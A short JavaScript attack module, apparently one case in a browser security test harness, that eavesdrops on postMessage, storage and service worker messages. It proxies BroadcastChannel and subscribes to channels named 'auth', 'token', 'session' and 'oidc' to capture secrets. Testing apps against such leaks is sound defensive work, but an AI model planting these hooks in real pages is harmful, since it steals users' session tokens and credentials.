import { attack } from "../attack.js";

export default attack({
  name: "listens to postMessage, BroadcastChannel and storage events",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    addEventListener("message", ({ data }) => it.steal(data), true);
    addEventListener("storage", ({ oldValue, newValue }) => it.steal(oldValue, newValue), true);
    navigator.serviceWorker?.addEventListener("message", ({ data }) => it.steal(data));
    navigator.serviceWorker?.startMessages();
    // Names that the app uses, and some that libraries use.
    const listen = (name: string) => {
      new channel(name).onmessage = ({ data }) => it.steal(data);
    };
    const channel = BroadcastChannel;
    window.BroadcastChannel = new Proxy(channel, {
      construct(target, [name]: [string]) {
        listen(name);
        return new target(name);
      },
    });
    for (const name of ["auth", "token", "tokens", "session", "oidc", "keeper", "strongroom"]) listen(name);
  },
});
